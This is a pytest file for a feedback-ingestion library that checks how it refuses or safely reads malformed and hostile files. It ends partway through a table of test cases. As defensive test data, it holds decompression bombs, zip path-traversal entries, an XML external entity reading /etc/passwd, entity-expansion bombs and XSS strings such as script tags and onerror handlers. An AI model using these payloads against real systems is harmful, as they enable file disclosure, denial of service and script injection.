"""Inputs that are broken, strange or meant to do harm: refused, or read with every row told."""

import csv
import gzip
import io
import json
import os
import pickle
import random
import signal
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any, NamedTuple

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from vocx.config import Columns, Input
from vocx.errors import UserError
from vocx.ingest import Ingested, ingest

SECONDS = 5.0  # of processor time that any of these inputs may take
Bytes = bytes | Callable[[], bytes]

# ------------------------------------------------------------------------------ making of files


def table(*rows: Sequence[object], header: Sequence[str] = ("id", "text")) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return out.getvalue().encode()


GOOD = table([1, "The parcel was late"], [2, "The box was open"])
BOTH = ("The parcel was late", "The box was open")


def beside(text: str) -> bytes:
    """A table of one text and an ordinary one."""
    return table([1, text], [2, "The box was open"])


def lines(*objects: object) -> bytes:
    return "".join(json.dumps(o) + "\n" for o in objects).encode()


def deep(opening: str, closing: str, depth: int) -> str:
    return opening * depth + "1" + closing * depth


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def gzipped(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = gzip.compress(data, 1, mtime=0)
    return data


def flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def encrypted(data: bytes) -> bytes:
    """An archive of one member that says of itself that it is encrypted."""
    out = bytearray(data)
    out[6] |= 1
    out[out.index(b"PK\x01\x02") + 8] |= 1
    return bytes(out)


def workbook(*rows: Sequence[object]) -> bytes:
    book, out = Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(list(row))
    book.save(out)
    return out.getvalue()


BOOK = workbook(["id", "text"], [1, "The parcel was late"], [2, "The box was open"])


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number: int, *cells: str) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


TWO_ROWS = (
    row(1, cell("A1", "id"), cell("B1", "text"))
    + row(2, cell("A2", "1"), cell("B2", "The parcel was late"))
    + row(3, cell("A3", "2"), cell("B3", "The box was open"))
)


def sheet(rows: str, dimension: str = "", head: str = "") -> bytes:
    """A workbook whose only sheet is written by hand."""
    said = f'<dimension ref="{dimension}"/>' if dimension else ""
    name = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    content = f'{head}<worksheet xmlns="{name}">{said}<sheetData>{rows}</sheetData></worksheet>'
    return with_sheet(f'<?xml version="1.0"?>{content}'.encode())


def with_sheet(content: bytes) -> bytes:
    book = zipfile.ZipFile(io.BytesIO(BOOK))
    members = {name: book.read(name) for name in book.namelist()}
    return zipped({**members, "xl/worksheets/sheet1.xml": content})


def ten_times(levels: int) -> str:
    """Entities of XML, each ten times the one before."""
    named = [f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels)]
    return f'<!DOCTYPE w [<!ENTITY e0 "late late late ">{"".join(named)}]>'


def parquet(columns: dict[str, list[Any]]) -> bytes:
    out = io.BytesIO()
    pd.DataFrame(columns).to_parquet(out)
    return out.getvalue()


PARQUET = parquet({"id": [1, 2], "text": list(BOTH)})


def mail(body: str, kind: str = "text/plain; charset=utf-8") -> bytes:
    head = f"From: jo@example.com\nSubject: Parcel\nContent-Type: {kind}\n"
    return f"{head}Date: Mon, 02 Mar 2026 09:00:00 +0000\n\n{body}\n".encode()


QUALTRICS = table(
    ["Recorded Date", "Response ID", "Response Type", "What is the main reason?"],
    ['{"ImportId":"recordedDate","timeZone":"America/Denver"}', '{"ImportId":"_recordId"}',
     '{"ImportId":"status"}', '{"ImportId":"QID1_TEXT"}'],
    header=["RecordedDate", "ResponseId", "Status", "Q1"],
)  # fmt: skip
PLAY = [
    *("Package Name", "Star Rating", "Review Text", "Review Link"),
    "Review Last Update Millis Since Epoch",
]
TICKET: dict[str, Any] = {
    "id": 1, "requester_id": 2, "description": "The parcel was late", "via": {"channel": "web"},
    "satisfaction_rating": {"score": "bad"}, "created_at": "2026-03-01T00:00:00Z",
    "comments": [{"author_id": 2, "body": "The parcel was late"},
                 {"author_id": 3, "body": "So sorry"}],
}  # fmt: skip
CALL: dict[str, Any] = {
    "CustomerMetadata": {"ContactId": "c-1"}, "Channel": "VOICE",
    "Participants": [{"ParticipantId": "C", "ParticipantRole": "CUSTOMER"},
                     {"ParticipantId": "A", "ParticipantRole": "AGENT"}],
    "Transcript": [{"ParticipantId": "C", "Content": "The parcel was late"},
                   {"ParticipantId": "A", "Content": "So sorry"}],
}  # fmt: skip
GENESYS: dict[str, Any] = {
    "conversationId": "g-1",
    "transcripts": [{"phrases": [{"text": "The parcel was late", "participantPurpose": "external"},
                                 {"text": "So sorry", "participantPurpose": "internal"}]}],
}  # fmt: skip
TALK: dict[str, Any] = {
    "id": "i-1", "created_at": 1769932800,
    "source": {"body": "<p>The parcel was late</p>", "author": {"type": "user", "id": "u"}},
    "conversation_parts": {"conversation_parts": [
        {"part_type": "comment", "body": "So sorry", "author": {"type": "admin"}}]},
}  # fmt: skip
CUE = "00:00:0{0},000 --> 00:00:0{1},000"


# ------------------------------------------------------------------------------ reading of files


@contextmanager
def within(seconds: float) -> Iterator[None]:
    """Fails where work takes more processor time than that, and ends it."""
    if not hasattr(signal, "SIGPROF"):
        yield
        return

    def stop(*_: object) -> None:
        pytest.fail(f"took more than {seconds:.0f} s")

    before = signal.signal(signal.SIGPROF, stop)
    signal.setitimer(signal.ITIMER_PROF, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, before)


@pytest.fixture(scope="module", autouse=True)
def loaded(tmp_path_factory: pytest.TempPathFactory) -> None:
    """What is loaded once, for the languages and names, is not part of any input's time."""
    path = tmp_path_factory.mktemp("loaded") / "export.csv"
    path.write_bytes(beside("Das Paket kam viel zu spät und war beschädigt"))
    ingest([Input(path=str(path))])


def put(folder: Path, name: str, content: Bytes) -> Path:
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content())
    return path


def read(path: Path) -> Ingested:
    """What is found at a path, whose counts are checked against its tables."""
    with within(SECONDS):
        found = ingest([Input(path=str(path))])
    for file in found.files:
        assert file.rows == file.taken + file.rejected + file.merged
    taken, rejected, merged = counts(found)[1:]
    assert len(found.feedback) == taken
    assert found.feedback["feedback_id"].is_unique
    assert found.rejects["merged_into"].isna().sum() == rejected
    assert found.rejects["merged_into"].notna().sum() <= merged  # turns are in their conversation
    return found


def counts(found: Ingested) -> tuple[int, int, int, int]:
    return (
        sum(f.rows for f in found.files),
        sum(f.taken for f in found.files),
        sum(f.rejected for f in found.files),
        sum(f.merged for f in found.files),
    )


def check_refused(path: Path, error: UserError, says: str = "") -> None:
    assert path.name.removesuffix(".gz") in error.what
    assert says in error.what
    assert error.remedy


def check_read_or_refused(path: Path, words: Sequence[str]) -> None:
    """Either is fine, but not a crash, nor a reading that loses words."""
    try:
        found = read(path)
    except UserError as error:
        check_refused(path, error)
    else:
        told = "\n".join([*found.feedback["text"], *found.rejects["text"]])
        assert [w for w in words if w not in told] == []


# --------------------------------------------------------------------------------------- refused


# what it is: the file, its content, what the message says
REFUSED: dict[str, tuple[str, Bytes, str]] = {
    "an empty file": ("export.csv", b"", "the file is empty"),
    "an empty JSON file": ("export.json", b"", "the file is empty"),
    "an empty workbook file": ("export.xlsx", b"", "the file is empty"),
    "white space only": ("export.csv", b" \n\t\r\n  ", "the file is empty"),
    "a header only": ("export.csv", b"id,text\n", "the table is empty"),
    "a header and blank rows": ("export.csv", b"id,text\n,\n , \n", "the table is empty"),
    "a mark of UTF-8 only": ("export.csv", b"\xef\xbb\xbf", "is empty"),
    "a mark of UTF-16 only": ("export.csv", b"\xff\xfe", "is empty"),
    "many NUL bytes": ("export.csv", GOOD + b"\0" * 500, "NUL bytes"),
    "a table of numbers": (
        "export.csv",
        table([1, 2], [3, 4], header="ab"),
        "no column looks like",
    ),
    "a hundred thousand columns": (
        "export.csv",
        lambda: b"\n".join(b",".join([b"word"] * 100_000) for _ in range(2)),
        "100,000 columns",
    ),
    "a gzip file cut off": ("export.csv.gz", gzipped(GOOD * 50)[:-20], "cut off or broken"),
    "garbage named gzip": ("export.csv.gz", b"garbage, no gzip", "is no gzip file"),
    "garbage after a gzip header": (
        "export.csv.gz",
        b"\x1f\x8b\x08\0garbage, no gzip",
        "cut off or broken",
    ),
    "a gzip file of nothing": ("export.csv.gz", gzipped(b""), "the file is empty"),
    "a gzip file that unpacks to a flood": (
        "export.csv.gz",
        lambda: gzip.compress(b"\0" * 30_000_000),
        "times its size",
    ),
    "a gzip file in a thousand others": ("export.csv.gz", lambda: gzipped(GOOD, 1500), "deep"),
    "an archive that unpacks to a flood": (
        "export.zip",
        lambda: zipped({"a.csv": b" " * 30_000_000}),
        "times its size",
    ),
    "an archive in an archive in an archive": (
        "export.zip",
        zipped({"b.zip": zipped({"c.zip": zipped({"d.csv": GOOD})})}),
        "deep",
    ),
    "an encrypted archive": ("export.zip", encrypted(zipped({"a.csv": GOOD})), "encrypted"),
    "a corrupt archive": ("export.zip", flipped(zipped({"a.csv": GOOD}), 50), "cannot be unpacked"),
    "a corrupt archive of LZMA": (
        "export.zip",
        flipped(zipped({"a.csv": GOOD * 20}, zipfile.ZIP_LZMA), 60),
        "cannot be unpacked",
    ),
    "a corrupt archive of bzip2": (
        "export.zip",
        flipped(zipped({"a.csv": GOOD * 20}, zipfile.ZIP_BZIP2), 60),
        "cannot be unpacked",
    ),
    "an archive without its end": (
        "export.zip",
        zipped({"a.csv": GOOD})[:-30],
        "not readable as ZIP",
    ),
    "an archive without its beginning": ("export.zip", zipped({"a.csv": GOOD})[30:], "read"),
    "an archive of paths that lead out": (
        "export.zip",
        zipped({"../../up.csv": GOOD, "/etc/down.csv": GOOD}),
        "out of the archive",
    ),
    "an archive without data files": (
        "export.zip",
        zipped({"notes.pdf": b"x", "a.exe": b"MZ"}),
        "no data file",
    ),
    "an archive without files": ("export.zip", zipped({}), "no data file"),
    "an archive of ten thousand files and one": (
        "export.zip",
        lambda: zipped({f"{i}.csv": b"x" for i in range(10_001)}),
        "more than 10,000",
    ),
    "lists of JSON nested ten thousand deep": (
        "export.json",
        deep("[", "]", 10_000).encode(),
        "nested too deep",
    ),
    "objects of JSON nested ten thousand deep": (
        "export.json",
        deep('{"text":', "}", 10_000).encode(),
        "nested too deep",
    ),
    "JSON cut off": ("export.json", b'[{"id": 1, "text": "The parcel', "not JSON"),
    "JSON that is a number": ("export.json", b"5", "no list of objects"),
    "JSON that is a string": ("export.json", b'"The parcel was late"', "no list of objects"),
    "JSON that is null": ("export.json", b"null", "no list of objects"),
    "an empty list of JSON": ("export.json", b"[]", "is empty"),
    "a list of empty objects": ("export.json", b"[{}, {}]", "without any value"),
    "a list of lists": ("export.json", b'[["id", "text"], [1, "Late"]]', "no JSON object"),
    "a list of scalars": ("export.json", b'[1, "Late", null, true]', "no JSON object"),
    "lines of JSON that are scalars": ("export.jsonl", b'1\n"Late"\nnull\n', "no JSON object"),
    "a workbook that is another archive": (
        "export.xlsx",
        zipped({"a.csv": GOOD}),
        "not readable as XLSX",
    ),
    "a workbook cut off": ("export.xlsx", BOOK[:2000], "not readable as XLSX"),
    "a workbook of garbage": ("export.xlsx", b"garbage, no workbook", "not readable as XLSX"),
    "a workbook with a broken sheet": (
        "export.xlsx",
        with_sheet(b"<worksheet><sheetData><row"),
        "not readable as XLSX",
    ),
    "a workbook with a corrupt sheet": (
        "export.xlsx",
        lambda: flipped(BOOK, BOOK.index(b"xl/worksheets/sheet1.xml") + 30),
        "not readable as XLSX",
    ),
    "a workbook whose entities multiply": (
        "export.xlsx",
        lambda: sheet(TWO_ROWS + row(4, cell("B4", "&e8;")), head=ten_times(9)),
        "not readable as XLSX",
    ),
    "a workbook that names a file of the machine": (
        "export.xlsx",
        sheet(
            TWO_ROWS + row(4, cell("B4", "&x;")),
            head='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        "not readable as XLSX",
    ),
    "a workbook that points to a string it lacks": (
        "export.xlsx",
        sheet(TWO_ROWS + row(4, '<c r="B4" t="s"><v>99</v></c>')),
        "not readable as XLSX",
    ),
    "a Parquet file cut off": ("export.parquet", PARQUET[:-50], "not readable as Parquet"),
    "a Parquet file without its beginning": (
        "export.parquet",
        PARQUET[50:],
        "not readable as Parquet",
    ),
    "a picture named CSV": (
        "export.csv",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0",
        "is no text",
    ),
    "random bytes named CSV": (
        "export.csv",
        lambda: random.Random(1).randbytes(20_000),
        "is no text",
    ),
    "a page of the web named CSV": (
        "export.csv",
        b"<!DOCTYPE html>\n<html><body>\n<p>Please sign in to see this page</p>\n"
        b"<p>Have you lost your password or your name?</p>\n</body></html>\n",
        "HTML",
    ),
    "a document of PDF named CSV": (
        "export.csv",
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        "no column",
    ),
    "an unknown ending": ("export.docx", b"The parcel was late\n", "no kind of file"),
    "a document of Word": ("export.docx", zipped({"word/document.xml": b"<x/>"}), "no data file"),
    "no ending": ("export", GOOD, "no kind of file"),
    "WebVTT without speakers": (
        "export.vtt",
        b"WEBVTT\n\n00:01.000 --> 00:02.000\nthe parcel was late\n",
        "no cue says who speaks",
    ),
    "WebVTT without cues": ("export.vtt", b"WEBVTT\n\n", "no cue says who speaks"),
    "WebVTT of one speaker": (
        "export.vtt",
        b"WEBVTT\n\n00:01.000 --> 00:02.000\n<v Jo>Hello</v>\n",
        "known as a customer",
    ),
    "a chat of one message": (
        "export.txt",
        b"12/03/2026, 10:15 - Jo: The parcel was late\n",
        "the table is empty",
    ),
    "a call without turns": (
        "export.json",
        lines({**CALL, "Transcript": []}),
        "the table is empty",
    ),
    "a call whose turns are null": (
        "export.json",
        lines({**CALL, "Transcript": None}),
        "the table is empty",
    ),
    "a call of agents only": (
        "export.json",
        lines({**CALL, "Participants": []}),
        "known as a customer",
    ),
    "a Qualtrics export of header rows only": ("export.csv", QUALTRICS, "the table is empty"),
    "a Qualtrics export whose only row has too many cells": (
        "export.csv",
        QUALTRICS + b"2026-03-01,R_1,IP Address,Late,x,y\n",
        "row has 6 cells",
    ),
    "a SurveyMonkey export of one header row": (
        "export.csv",
        b"Respondent ID,Collector ID,Why?\n",
        "the table is empty",
    ),
    "a SurveyMonkey export of two header rows": (
        "export.csv",
        b"Respondent ID,Collector ID,Why?\n,,Response\n",
        "the table is empty",
    ),
    "a Typeform export of a header only": (
        "export.csv",
        b"#,Why?,Submit Date (UTC),Network ID\n",
        "the table is empty",
    ),
    "a ticket without comments and description": (
        "export.json",
        lines({"tickets": [{**TICKET, "comments": [], "description": None}]}),
        "ticket without words",
    ),
    "a message without words": ("export.eml", b"From: jo@example.com\n\n\n", "without words"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_by_name_with_a_reason_and_a_remedy(tmp_path: Path, what: str) -> None:
    name, content, says = REFUSED[what]
    path = put(tmp_path, name, content)
    with within(SECONDS), pytest.raises(UserError) as error:
        ingest([Input(path=str(path))])
    check_refused(path, error.value, says)
    assert list(tmp_path.rglob("*")) == [path]  # nothing is unpacked to disk


# ------------------------------------------------------------------------------------------ read


class Read(NamedTuple):
    name: str
    content: Bytes
    counts: tuple[int, int, int, int]  # rows, taken, rejected, merged
    words: Sequence[str] = BOTH  # found in the feedback
    absent: Sequence[str] = ()  # found nowhere in it
    reason: str = ""  # of a row that was not taken


WORDS_1252 = "id;text\n1;The café was shut – “again”\n2;It’s £5 too dear, très naïve\n"
MIXED = "id,text\n" + "".join(f"{i},Naïve résumé number {i}\n" for i in range(9))
SPACES = " " * 60_000
RATED = [[i, f"Parcel {i} was late", 4, "2026-03-01"] for i in range(20)]
RATED_BY = ("id", "text", "rating", "created_at")

READ: dict[str, Read] = {
    # encodings
    "UTF-16 with its mark": Read(
        "export.csv",
        "id,text\n1,The café was shut\n".encode("utf-16"),
        (1, 1, 0, 0),
        ["The café was shut"],
    ),
    "UTF-16 without its mark": Read("export.csv", GOOD.decode().encode("utf-16-le"), (2, 2, 0, 0)),
    "UTF-16 of the other order without its mark": Read(
        "export.csv", GOOD.decode().encode("utf-16-be"), (2, 2, 0, 0)
    ),
    "UTF-16 with accents and without its mark": Read(
        "export.csv",
        "id,text\n1,The café was shut\n".encode("utf-16-le"),
        (1, 1, 0, 0),
        ["The café was shut"],
    ),
    "UTF-8 with its mark": Read("export.csv", b"\xef\xbb\xbf" + GOOD, (2, 2, 0, 0)),
    "Windows-1252": Read(
        "export.csv",
        WORDS_1252.encode("cp1252"),
        (2, 2, 0, 0),
        ["The café was shut", "£5 too dear, très naïve"],
    ),
    "a price in Windows-1252": Read(
        "export.csv", beside("Only £5 off").decode().encode("cp1252"), (2, 2, 0, 0), ["Only £5 off"]
    ),
    "French in Windows-1252": Read(
        "export.csv",
        beside("Très bien vraiment, merci").decode().encode("cp1252"),
        (2, 2, 0, 0),
        ["Très bien vraiment"],
    ),
    "lines of UTF-8 and of Windows-1252": Read(
        "export.csv",
        MIXED.encode() + "99,The café was shut\n".encode("cp1252"),
        (10, 10, 0, 0),
        ["Naïve résumé number 8", "The café was shut"],
    ),
    "text decoded wrongly before": Read(
        "export.csv",
        beside("It doesnâ€™t work and the cafÃ© was shut"),
        (2, 2, 0, 0),
        ["It doesn't work and the café was shut"],
    ),
    "a few NUL bytes": Read(
        "export.csv",
        GOOD + b"3,The lid w\0as torn\n" + b"4,The lamp broke\n" * 20,
        (23, 4, 0, 19),
        [*BOTH, "The lid was torn"],
    ),
    # shape
    "rows with too many cells and too few": Read(
        "export.csv", GOOD + b"3,Late, again\n4\n5,x,,,\n", (5, 3, 2, 0), reason="row has 3 cells"
    ),
    "a quote that never ends in mid file": Read(
        "export.csv",
        b'id,text\n1,"The lamp never came\n' + GOOD[8:],
        (3, 2, 1, 0),
        reason="row has a quote that never ends",
    ),
    "new lines inside quotes": Read(
        "export.csv",
        beside("The parcel\n\nwas,\r\nlate"),
        (2, 2, 0, 0),
        ["The parcel\n\nwas,\nlate"],
    ),
    "lines that end in a carriage return": Read(
        "export.csv", GOOD.replace(b"\n", b"\r"), (2, 2, 0, 0)
    ),
    "lines that end in different ways": Read(
        "export.csv", b"id,text\r\n1,The parcel was late\r2,The box was open\n\n\r\n", (2, 2, 0, 0)
    ),
    "a cell of twenty million characters": Read(
        "export.csv",
        lambda: beside("late " * 4_000_000),
        (2, 1, 1, 0),
        BOTH[1:],
        reason="20,000,000",
    ),
    "fifty thousand rows of one word": Read(
        "export.csv",
        lambda: table(*([i, "Good"] for i in range(50_000))),
        (50_000, 50_000, 0, 0),
        ["Good"],
    ),
    "names of columns twice, and none": Read(
        "export.csv",
        table(
            [1, "The parcel was late", "x", "y", "z"],
            [2, "The box was open", "x", "y", "z"],
            header=["id", "text", "text", "", ""],
        ),
        (2, 2, 0, 0),
    ),
    "a header below a title": Read(
        "export.csv", b"Export of the third quarter,\n,\n" + GOOD, (2, 2, 0, 0), absent=["quarter"]
    ),
    "a name of a column as long as a book": Read(
        "export.csv",
        lambda: table([1, BOTH[0], 5], header=["id", "text", "likely " * 50_000]),
        (1, 1, 0, 0),
        BOTH[:1],
    ),
    "the same row again": Read(
        "export.csv",
        table(*([i, f"Parcel {i} was late"] for i in range(6)), *[[0, "Parcel 0 was late"]] * 3),
        (9, 6, 0, 3),
        ["Parcel 5 was late"],
        reason="repeats row 1",
    ),
    "a file pasted three times below itself": Read(
        "export.csv",
        table(*([i, f"Parcel {i} was late"] for _ in range(3) for i in range(6))),
        (18, 6, 0, 12),
        ["Parcel 5 was late"],
        reason="repeats row",
    ),
    # archives
    "a gzip file named CSV": Read("export.csv", gzipped(GOOD), (2, 2, 0, 0)),
    "a gzip file in another": Read("export.csv.gz", gzipped(GOOD, 2), (2, 2, 0, 0)),
    "an archive named CSV": Read("export.csv", zipped({"a.csv": GOOD}), (2, 2, 0, 0)),
    "an archive in an archive": Read(
        "export.zip", zipped({"b.zip": zipped({"c.csv": GOOD})}), (2, 2, 0, 0)
    ),
    "a flood beside a good file": Read(
        "export.zip",
        lambda: zipped({"a.csv": b" " * 30_000_000, "b.csv": GOOD}),
        (3, 2, 1, 0),
        reason="times its size",
    ),
    "paths that lead out of an archive": Read(
        "export.zip",
        zipped({"../../up.csv": GOOD, "/etc/down.csv": GOOD, "C:\\x\\y.csv": GOOD, "a.csv": GOOD}),
        (5, 2, 3, 0),
        reason="out of the archive",
    ),
    "hidden files in an archive": Read(
        "export.zip",
        zipped({"__MACOSX/._a.csv": b"x", ".b.csv": b"x", "a.csv": GOOD}),
        (2, 2, 0, 0),
    ),
    # JSON
    "one bad line of JSON": Read(
        "export.jsonl",
        lines({"id": 1, "text": BOTH[0]})
        + b'{"id": 3, "text": \n'
        + lines({"id": 2, "text": BOTH[1]}),
        (3, 2, 1, 0),
        reason="line is no JSON",
    ),
    "lines of JSON that are no objects": Read(
        "export.jsonl",
        lines({"id": 1, "text": BOTH[0]}, ["x", "y"], {"id": 2, "text": BOTH[1]}, 5, None),
        (5, 2, 3, 0),
        reason="line is no JSON object",
    ),
    "a line of JSON nested ten thousand deep": Read(
        "export.jsonl",
        lines({"id": 1, "text": BOTH[0]}) + deep('{"text":', "}", 10_000).encode(),
        (2, 1, 1, 0),
        BOTH[:1],
        reason="nested too deep",
    ),
    "halves of surrogates": Read(
        "export.json",
        rb'[{"id": 1, "text": "Late \ud83d again"}, {"id": 2, "text": "Thanks \ud83d\ude00"},'
        rb' {"id": "\udc00", "text": "The box was open", "\ud83d": 1}]',
        (3, 3, 0, 0),
        ["Late \ufffd again", "Thanks 😀"],
    ),
    "keys twice": Read(
        "export.json",
        b'[{"id": 1, "text": "x", "text": "The parcel was late"},'
        b' {"id": 2, "text": "The box was open"}]',
        (2, 2, 0, 0),
    ),
    "numbers that are none": Read(
        "export.jsonl",
        b'{"id": NaN, "text": "The parcel was late"}\n{"id": 2, "text": "The box was open"}\n'
        b'{"id": 3, "text": NaN}\n',
        (3, 2, 1, 0),
        reason="no text",
    ),
    "lists inside objects": Read(
        "export.jsonl",
        lines({"id": 1, "text": [BOTH[0], "slow"]}, {"id": 2, "text": BOTH[1]}),
        (2, 2, 0, 0),
    ),
    "a rating of four hundred digits": Read(
        "export.jsonl",
        lines(*({"id": i, "text": f"Parcel {i} was late", "rating": 4} for i in range(20)))
        + b'{"id": 99, "text": "The box was open", "rating": '
        + b"9" * 400
        + b"}\n",
        (21, 21, 0, 0),
        BOTH[1:],
    ),
    # binary tables
    "a workbook with formulas": Read(
        "export.xlsx",
        workbook(["id", "text"], [1, BOTH[0]], [2, '=CONCATENATE("a ", "b")'], [3, BOTH[1]]),
        (3, 2, 1, 0),
        reason="no text",
    ),
    "a workbook that says it is a million rows": Read(
        "export.xlsx", lambda: sheet(TWO_ROWS, "A1:XFD1048576"), (2, 2, 0, 0)
    ),
    "a workbook that says it is one cell": Read(
        "export.xlsx", lambda: sheet(TWO_ROWS, "A1"), (2, 2, 0, 0)
    ),
    "a workbook with a row far below": Read(
        "export.xlsx",
        lambda: sheet(
            TWO_ROWS + row(1_048_576, cell("A1048576", "9"), cell("B1048576", "The lid was torn"))
        ),
        (3, 3, 0, 0),
        [*BOTH, "The lid was torn"],
    ),
    "a workbook with a cell of thirty million characters": Read(
        "export.xlsx",
        lambda: sheet(TWO_ROWS + row(4, cell("A4", "3"), cell("B4", "x" * 30_000_000))),
        (3, 2, 1, 0),
        reason="30,000,000",
    ),
    "a Parquet file with bytes, lists and objects": Read(
        "export.parquet",
        lambda: parquet(
            {
                "id": [1, 2],
                "text": list(BOTH),
                "raw": [b"\xff\0", b"x"],
                "tags": [["a"], ["b", "c"]],
                "more": [{"a": 1}, {"a": 2}],
            }
        ),
        (2, 2, 0, 0),
    ),
    # markup
    "scripts": Read(
        "export.csv",
        beside("<script>alert(1)</script>The parcel was late"),
        (2, 2, 0, 0),
        absent=["alert", "<"],
    ),
    "handlers of errors": Read(
        "export.csv",
        beside("The parcel was late<img src=x onerror=alert(1)>"),
        (2, 2, 0, 0),
        absent=["alert", "<"],
    ),
    "handlers without a space": Read(
        "export.csv",
        beside("The parcel was late<svg/onload=alert(1)>"),
        (2, 2, 0, 0),
        absent=["alert", "<"],
    ),
    "scripts written as entities": Read(
        "export.csv",
        beside("&lt;script&gt;alert(1)&lt;/script&gt;The parcel was late"),
        (2, 2, 0, 0),
        absent=["alert", "<", "&lt;"],
    ),
    "scripts that appear when tags are taken out": Read(
        "export.csv",
        beside("The parcel was late<scr<i<b>>ipt>alert(1)</scr<i<b>>ipt>"),
        (2, 2, 0, 0),
        absent=["<script"],
    ),
    "words between angle brackets": Read(
        "export.csv",
        beside("The parcel <please call me> was late, 3 < 4 and I <3 it"),
        (2, 2, 0, 0),
        ["please call me", "3 < 4", "<3"],
    ),
    "controls and colours of a terminal": Read(
        "export.csv",
        beside("\x1b[31mThe parcel\x1b[0m\x07 was late"),
        (2, 2, 0, 0),
        absent=["\x1b", "\x07"],
    ),
    "a soft line break of a spreadsheet": Read(
        "export.csv", b'id,text\n1,"Late\x0bagain"\n', (1, 1, 0, 0), ["Late"], absent=["Lateagain"]
    ),
    "characters that are not seen": Read(
        "export.csv",
        beside("\ufeffThe parcel was la\u200bte \u202eniaga\u202c"),
        (2, 2, 0, 0),
        ["The parcel was la", "niaga"],
    ),
    "emoji joined to one": Read(
        "export.csv", beside("👨‍👩‍👧 loved it 🏳️‍🌈"), (2, 2, 0, 0), ["👨‍👩‍👧 loved it 🏳️‍🌈"]
    ),
    "hundreds of marks on a letter": Read(
        "export.csv",
        beside("The parcel was la" + "t" + "\u0301\u0316\u0489" * 300 + "e"),
        (2, 2, 0, 0),
        ["The parcel was la", "\u0489"],
    ),
    # what takes long to read
    "scripts without end": Read("export.csv", beside("<script>" * 50_000), (2, 1, 1, 0), BOTH[1:]),
    "comments of HTML without end": Read(
        "export.csv", beside("<!--" * 50_000), (2, 1, 1, 0), BOTH[1:]
    ),
    "a word of two hundred thousand letters": Read(
        "export.csv", beside("x" * 200_000), (2, 2, 0, 0), BOTH[1:]
    ),
    "a link of a hundred thousand letters": Read(
        "export.csv", beside("https://shop.example/" + "a" * 100_000), (2, 2, 0, 0), BOTH[1:]
    ),
    "a name of a machine with fifty thousand parts": Read(
        "export.csv", beside("a." * 50_000 + "1"), (2, 2, 0, 0), BOTH[1:]
    ),
    "a rating of spaces": Read(
        "export.csv",
        table(*RATED, [99, BOTH[1], f"1{SPACES}x", "2026-03-01"], header=RATED_BY),
        (21, 21, 0, 0),
        BOTH[1:],
    ),
    "a date of spaces": Read(
        "export.csv",
        table(*RATED, [99, BOTH[1], 1, f"2026-03-01{SPACES}x"], header=RATED_BY),
        (21, 21, 0, 0),
        BOTH[1:],
    ),
    "an id as long as a book": Read(
        "export.csv", table(["a." * 50_000 + "1", BOTH[0]]), (1, 1, 0, 0), BOTH[:1]
    ),
    "five thousand conversations": Read(
        "export.jsonl",
        lambda: lines(
            *(
                {"conversation_id": f"c-{i}", "speaker": "customer", "text": BOTH[0]}
                for i in range(5000)
            )
        ),
        (5000, 5000, 0, 0),
        BOTH[:1],
    ),
    "a line of a mailbox like a heading": Read(
        "export.mbox",
        b"From jo@example.com Mon Mar  2 09:00:00 2026\nSubject: Parcel\n\nThe box was open\nFrom "
        + b"x" * 60_000
        + b"\n",
        (1, 1, 0, 0),
        BOTH[1:],
    ),
    "a speaker of spaces": Read(
        "export.vtt",
        f"WEBVTT\n\n00:01.000 --> 00:02.000\n<v{SPACES}x\n\n"
        "00:02.000 --> 00:03.000\nCUSTOMER: The box was open\n".encode(),
        (2, 1, 1, 0),
        BOTH[1:],
    ),
    # known layouts
    "SRT cut off": Read(
        "export.srt",
        f"1\n{CUE.format(1, 2)}\nCUSTOMER: The parcel was late\n\n2\n{CUE.format(3, 4)}\n"
        "AGENT: So sorry\n\n3\n00:00:05,0".encode(),
        (2, 1, 0, 1),
        BOTH[:1],
    ),
    "SRT cut off before its words": Read(
        "export.srt",
        f"1\n{CUE.format(1, 2)}\nCUSTOMER: The parcel was late\n\n2\n{CUE.format(3, 4)}\n".encode(),
        (2, 1, 1, 0),
        BOTH[:1],
        reason="cue without words",
    ),
    "a mailbox with broken headers": Read(
        "export.mbox",
        b"From jo@example.com Mon Mar  2 09:00:00 2026\n:::: no header\nSubject: =?utf-8?b?%%%?=\n"
        b"Date: Mon, 99 Foo 99999999999999999999 99:99:99 +9999\n\nThe parcel was late\n\n"
        b"From jo@example.com Mon Mar  2 09:00:00 2026\n"
        b"From: Jos\xe9 <j\xff@example.com>\nMessage-ID: <\xe9@x>\n"
        b"Date: Mon, 02 Mar 99999999999999999999 09:00:00 +0000\n\nThe box was open\n",
        (2, 2, 0, 0),
    ),
    "a message of several parts without what parts them": Read(
        "export.eml", mail("The parcel was late", "multipart/mixed"), (1, 1, 0, 0), BOTH[:1]
    ),
    "a message of an unknown charset": Read(
        "export.eml",
        mail("The café was shut", "text/plain; charset=x-klingon-8"),
        (1, 1, 0, 0),
        ["The café was shut"],
    ),
    "a message of a charset that is none": Read(
        "export.eml",
        mail("The parcel was late", "text/plain; charset=undefined"),
        (1, 1, 0, 0),
        BOTH[:1],
    ),
